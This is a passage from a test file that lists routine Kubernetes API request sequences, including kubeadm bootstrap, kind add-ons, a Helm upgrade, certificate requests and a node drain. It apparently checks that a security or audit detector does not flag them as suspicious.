          body: { data: { ClusterConfiguration: 'apiServer: {}\ncertificatesDir: /etc/kubernetes/pki\n' } },
        }),
        ask('create', ':configmaps', {
          ...kubeadm,
          namespace: 'kube-system',
          name: 'kubelet-config',
          body: { data: { kubelet: 'authentication:\n  anonymous:\n    enabled: false\n' } },
        }),
        ask('create', rbac('roles'), {
          ...kubeadm,
          namespace: 'kube-system',
          name: 'kubeadm:nodes-kubeadm-config',
          body: role(rule(['configmaps'], ['get'])),
        }),
        ask('create', rbac('rolebindings'), {
          ...kubeadm,
          namespace: 'kube-system',
          name: 'kubeadm:nodes-kubeadm-config',
          body: binding(
            'kubeadm:nodes-kubeadm-config',
            group('system:nodes'),
            group('system:bootstrappers:kubeadm:default-node-token'),
          ),
        }),
        ask('create', rbac('clusterrolebindings'), {
          ...kubeadm,
          name: 'kubeadm:cluster-admins',
          body: binding('cluster-admin', group('kubeadm:cluster-admins')),
        }),
        ask('get', ':secrets', { ...kubeadm, namespace: 'kube-system', name: 'bootstrap-token-abcdef', code: 404 }),
        ask('create', ':secrets', {
          ...kubeadm,
          namespace: 'kube-system',
          name: 'bootstrap-token-abcdef',
          body: { type: 'bootstrap.kubernetes.io/token' },
        }),
        ask('create', rbac('clusterroles'), {
          ...kubeadm,
          name: 'kubeadm:get-nodes',
          body: role(rule(['nodes'], ['get'])),
        }),
        ask('create', rbac('clusterrolebindings'), {
          ...kubeadm,
          name: 'kubeadm:get-nodes',
          body: binding('kubeadm:get-nodes', group('system:bootstrappers:kubeadm:default-node-token')),
        }),
        ask('create', rbac('clusterrolebindings'), {
          ...kubeadm,
          name: 'kubeadm:kubelet-bootstrap',
          body: binding('system:node-bootstrapper', group('system:bootstrappers:kubeadm:default-node-token')),
        }),
        ask('create', rbac('clusterrolebindings'), {
          ...kubeadm,
          name: 'kubeadm:node-autoapprove-bootstrap',
          body: binding(
            'system:certificates.k8s.io:certificatesigningrequests:nodeclient',
            group('system:bootstrappers:kubeadm:default-node-token'),
          ),
        }),
        ask('create', rbac('clusterrolebindings'), {
          ...kubeadm,
          name: 'kubeadm:node-autoapprove-certificate-rotation',
          body: binding('system:certificates.k8s.io:certificatesigningrequests:selfnodeclient', group('system:nodes')),
        }),
        ask('create', rbac('roles'), {
          ...kubeadm,
          namespace: 'kube-public',
          name: 'kubeadm:bootstrap-signer-clusterinfo',
          body: role(rule(['configmaps'], ['get'])),
        }),
        ask('create', rbac('rolebindings'), {
          ...kubeadm,
          namespace: 'kube-public',
          name: 'kubeadm:bootstrap-signer-clusterinfo',
          body: binding('kubeadm:bootstrap-signer-clusterinfo', { kind: 'User', name: 'system:anonymous' }),
        }),
        ask('create', ':configmaps', {
          ...kubeadm,
          namespace: 'kube-public',
          name: 'cluster-info',
          body: { data: { kubeconfig: 'apiVersion: v1\nkind: Config\n' } },
        }),
        ask('create', ':configmaps', {
          ...kubeadm,
          namespace: 'kube-system',
          name: 'coredns',
          body: { data: { Corefile: '.:53 {}' } },
        }),
        ask('create', rbac('clusterroles'), {
          ...kubeadm,
          name: 'system:coredns',
          body: role(rule(['endpoints', 'services'], ['list', 'watch'])),
        }),
        ask('create', rbac('clusterrolebindings'), {
          ...kubeadm,
          name: 'system:coredns',
          body: binding('system:coredns', own('coredns')),
        }),
        ask('create', ':serviceaccounts', { ...kubeadm, namespace: 'kube-system', name: 'coredns' }),
        ask('create', 'apps:deployments', {
          ...kubeadm,
          namespace: 'kube-system',
          name: 'coredns',
          body: workload({
            containers: [
              {
                image: 'registry.k8s.io/coredns/coredns:v1.11.1',
                securityContext: { capabilities: { add: ['NET_BIND_SERVICE'] } },
              },
            ],
          }),
        }),
        ask('create', ':services', {
          ...kubeadm,
          namespace: 'kube-system',
          name: 'kube-dns',
          body: { spec: { clusterIP: '10.96.0.10' } },
        }),
        ask('patch', ':nodes', {
          ...kubeadm,
          body: { metadata: { labels: { 'node-role.kubernetes.io/control-plane': '' } }, spec: { taints: [] } },
        }),
      ],
      null,
    ],
    [
      'kind',
      [
        ask('create', rbac('clusterroles'), {
          ...admin,
          name: 'kindnet',
          body: role(rule(['nodes'], ['list', 'watch', 'patch'])),
        }),
        ask('create', rbac('clusterrolebindings'), {
          ...admin,
          name: 'kindnet',
          body: binding('kindnet', own('kindnet')),
        }),
        ask('create', ':serviceaccounts', { ...admin, namespace: 'kube-system', name: 'kindnet' }),
        ask('create', 'apps:daemonsets', {
          ...admin,
          namespace: 'kube-system',
          name: 'kindnet',
          body: workload({
            hostNetwork: true,
            containers: [
              {
                image: 'docker.io/kindest/kindnetd:v20240813-c6f155d6',
                securityContext: { privileged: false, capabilities: { add: ['NET_RAW', 'NET_ADMIN'] } },
              },
            ],
            volumes: [
              { hostPath: { path: '/etc/cni/net.d' } },
              { hostPath: { path: '/run/xtables.lock' } },
              { hostPath: { path: '/lib/modules' } },
            ],
          }),
        }),
        ask('create', ':namespaces', { ...admin, name: 'local-path-storage', body: {} }),
        ask('create', ':serviceaccounts', {
          ...admin,
          namespace: 'local-path-storage',
          name: 'local-path-provisioner-service-account',
        }),
        ask('create', rbac('clusterroles'), {
          ...admin,
          name: 'local-path-provisioner-role',
          body: role(
            rule(['nodes', 'configmaps'], ['get', 'list', 'watch']),
            rule(['pods', 'persistentvolumes'], ['get', 'create', 'patch', 'delete']),
          ),
        }),
        ask('create', rbac('clusterrolebindings'), {
          ...admin,
          name: 'local-path-provisioner-bind',
          body: binding(
            'local-path-provisioner-role',
            own('local-path-provisioner-service-account', 'local-path-storage'),
          ),
        }),
        ask('create', 'apps:deployments', {
          ...admin,
          namespace: 'local-path-storage',
          name: 'local-path-provisioner',
          body: workload({ containers: [{ image: 'docker.io/kindest/local-path-provisioner:v20240813-c6f155d6' }] }),
        }),
        ask('create', ':configmaps', {
          ...admin,
          namespace: 'local-path-storage',
          name: 'local-path-config',
          body: {
            data: { setup: '#!/bin/sh\nset -eu\nmkdir -m 0777 -p "$VOL_DIR"\n', 'config.json': '{"nodePathMap":[]}' },
          },
        }),
      ],
      null,
    ],
    [
      'an upgrade by Helm',
      [
        ask('list', ':secrets', {
          agent: helm,
          uri: '/api/v1/namespaces/shop/secrets?labelSelector=name%3Dweb%2Cowner%3Dhelm%2Cstatus%3Ddeployed',
        }),
        ask('create', ':secrets', {
          agent: helm,
          uri: '/api/v1/namespaces/shop/secrets',
          name: 'sh.helm.release.v1.web.v2',
        }),
        ask('get', ':secrets', { agent: helm, name: 'web' }),
        ask('patch', ':secrets', { agent: helm, name: 'web' }),
        ask('get', 'networking.k8s.io:networkpolicies', { agent: helm }),
        ask('patch', 'apps:deployments', {
          agent: helm,
          body: workload({ containers: [{ name: 'a', image: 'nginx:1.28' }] }),
        }),
        ask('patch', ':configmaps', { agent: helm, body: { data: { 'app.yaml': 'log:\n  level: info\n' } } }),
        ask('update', ':secrets', {
          agent: helm,
          uri: '/api/v1/namespaces/shop/secrets/sh.helm.release.v1.web.v1',
          name: 'sh.helm.release.v1.web.v1',
        }),
      ],
      null,
    ],
    [
      'a certificate for the webhooks of a mesh, by its own program',
      ask('create', 'certificates.k8s.io:certificatesigningrequests', {
        user: 'system:serviceaccount:istio-system:istiod',
        agent: 'pilot-discovery/1',
        body: { spec: { signerName: 'kubernetes.io/legacy-unknown', request: 'x' } },
      }),
      null,
    ],
    [
      'the certificate of a kubelet that an operator approves by hand',
      ask('update', 'certificates.k8s.io:certificatesigningrequests/approval', {
        body: { spec: { signerName: 'kubernetes.io/kubelet-serving' }, status: { conditions: [{ type: 'Approved' }] } },
      }),
      null,
    ],
    [
      'a node that is drained',
      [
        ask('get', ':nodes'),
        ask('patch', ':nodes', { body: { spec: { unschedulable: true } } }),
        ask('list', ':pods', { namespace: null, uri: '/api/v1/pods?fieldSelector=spec.nodeName%3Dn1' }),
        ask('get', 'apps:daemonsets', { namespace: 'kube-system' }),
        ask('create', ':pods/eviction', { body: { kind: 'Eviction' } }),
        ask('get', ':pods', { code: 404 }),
      ],
      null,
    ],
  ])
})
